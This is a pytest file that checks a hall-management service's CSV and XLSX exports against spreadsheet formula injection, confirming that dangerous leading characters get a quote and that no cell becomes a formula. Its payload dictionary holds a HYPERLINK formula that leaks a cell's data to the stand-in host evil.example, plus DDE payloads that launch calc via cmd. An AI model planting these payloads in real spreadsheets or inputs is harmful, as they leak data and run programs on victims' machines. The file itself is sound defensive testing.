"""No exported cell runs as a formula (issue 13, class 5: CSV/formula injection).

Citizens' names, tracking numbers and clerks' names that start with = + - @ (through the
API) and with a tab or a carriage return (the API strips those, so they are written to the
case rows directly, as an import or an older version could have) are exported through the
real endpoint as CSV and XLSX, read back with the csv module and openpyxl, and checked: the
text is there after one leading quote, no XLSX cell is a formula, numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from server.adapters import tables
from server.domain.personal import mask_name
from server.web.spreadsheet import csv_file, safe_cell, xlsx_file
from tests.server.conftest import HALL, Api, Hall, build_hall

DAY = "2026-11-23"
# One payload per dangerous first character; the comments say what a spreadsheet would do.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A2,"查看")',  # a live link leaking a cell
    "+": "+1+cmd|' /C calc'!A0",  # DDE: runs a program on old Excel
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
STRIPPED = ("\t", "\r")  # the API strips leading whitespace: these go into the rows directly


@pytest.fixture
def hall(tmp_path: Path) -> Iterator[Hall]:
    built = build_hall(f"sqlite:///{tmp_path / 'hall.sqlite3'}")
    yield built
    built.engine.dispose()


def deliver_cases(hall: Hall) -> None:
    """One delivered case per payload: the citizen's name and the tracking number carry it."""
    clerk = hall.clerk("clerk1", window=2)
    for first, payload in PAYLOADS.items():
        hall.issue("civil_affairs", name=payload)
        hall.clock.advance(minutes=1)  # a second call-next at once reads as a double press
        called = clerk.post("/windows/2/call-next")
        assert called.status_code == 200, called.json
        done = clerk.post("/windows/2/finish", {"outcome": "accepted"}).json
        number = done["case"]["number"]
        path = f"/halls/{HALL}/cases/{number}/moves"
        for action in ("review", "approve", "ready"):
            assert clerk.post(path, {"action": action}).status_code == 200
        moved = clerk.post(path, {"action": "deliver", "method": "post", "tracking": payload})
        assert moved.status_code == 200, moved.json
        if first in STRIPPED:
            with hall.engine.begin() as conn:
                conn.execute(update(tables.cases).where(tables.cases.c.number == number)
                             .values(tracking=payload, name_masked=payload))  # fmt: skip


def rate_as(hall: Hall, clerk_name: str) -> None:
    """A finished, rated ticket whose clerk (manager-given display name) is `clerk_name`."""
    manager = hall.clerk("manager")
    with hall.engine.connect() as conn:
        u = tables.users.c
        user_id = conn.execute(select(u.id).where(u.username == "clerk2")).scalar_one()
    assert manager.put(f"/users/{user_id}", {"name": clerk_name}).status_code == 200
    clerk = hall.clerk("clerk2", window=3)
    token = hall.issue("social_security")["token"]
    assert clerk.post("/windows/3/call-next").status_code == 200
    assert clerk.post("/windows/3/finish", {"outcome": "done"}).status_code == 200
    assert hall.anonymous().post(f"/tickets/{token}/rating", {"level": 2}).status_code == 201


def export(manager: Api, kind: str, fmt: str) -> bytes:
    r = manager.get(f"/halls/{HALL}/exports/{kind}?from={DAY}&to={DAY}&format={fmt}")
    assert r.status_code == 200, r.get_data(as_text=True)
    assert r.headers["Content-Disposition"].startswith("attachment;")
    return bytes(r.get_data())


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes) -> list[dict[str, Any]]:
    """Rows as dicts; fails on any formula cell (openpyxl reads a formula as data_type 'f')."""
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows()]
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert formulas == [], f"formula cells {formulas}"
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def quoted(text: str) -> str:
    return "'" + text


def test_exported_text_never_runs_as_a_formula(hall: Hall) -> None:
    deliver_cases(hall)
    rate_as(hall, PAYLOADS["@"])
    manager = hall.clerk("manager")
    tracking = list(PAYLOADS.values())
    names = [p if first in STRIPPED else mask_name(p) for first, p in PAYLOADS.items()]
    assert all(n[0] == first for n, first in zip(names, PAYLOADS, strict=True))

    rows = read_csv(export(manager, "cases", "csv"))
    assert [r["tracking"] for r in rows] == [quoted(t) for t in tracking]
    assert [r["name_masked"] for r in rows] == [quoted(n) for n in names]
    assert all(r["promised_days"].isdigit() for r in rows)
    cells = read_xlsx(export(manager, "cases", "xlsx"))
    # XML reads a carriage return inside text as a line feed (XLSX itself, not the export).
    lf = [quoted(t.replace("\r", "\n")) for t in tracking]
    assert [r["tracking"].value for r in cells] == lf
    assert [r["name_masked"].value for r in cells] == [quoted(n).replace("\r", "\n") for n in names]
    assert all(r["tracking"].data_type == "s" for r in cells)
    assert all(isinstance(r["promised_days"].value, int) for r in cells), "numbers stay numbers"

    tickets = read_csv(export(manager, "tickets", "csv"))
    api_names = [quoted(mask_name(p)) for first, p in PAYLOADS.items() if first not in STRIPPED]
    assert [t["name_masked"] for t in tickets][: len(api_names)] == api_names
    ticket_cells = read_xlsx(export(manager, "tickets", "xlsx"))
    assert [t["name_masked"].value for t in ticket_cells][: len(api_names)] == api_names
    assert isinstance(ticket_cells[0]["window"].value, int)

    (rating,) = read_csv(export(manager, "ratings", "csv"))
    assert rating["clerk"] == quoted(PAYLOADS["@"])
    (rating_cells,) = read_xlsx(export(manager, "ratings", "xlsx"))
    assert rating_cells["clerk"].value == quoted(PAYLOADS["@"])
    assert rating_cells["level"].value == 2


def test_the_type_tells_a_number_from_text() -> None:
    """-5 from the database is a number; "-5" typed by someone is text and gets its quote."""
    assert safe_cell(-5) == -5 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None
    assert safe_cell("-5") == "'-5" and safe_cell("a=1") == "a=1" and safe_cell("") == ""
    assert safe_cell("\x01=1+1") == "'=1+1", "a control character cannot hide the formula"
    columns, rows = ("n", "text", "error"), [[-5, "-5", "#N/A"]]
    (row,) = read_xlsx(xlsx_file(columns, rows))
    assert row["n"].value == -5 and row["n"].data_type == "n"
    assert row["text"].value == "'-5" and row["error"].data_type == "s"
    assert read_csv(csv_file(columns, rows)) == [{"n": "-5", "text": "'-5", "error": "#N/A"}]
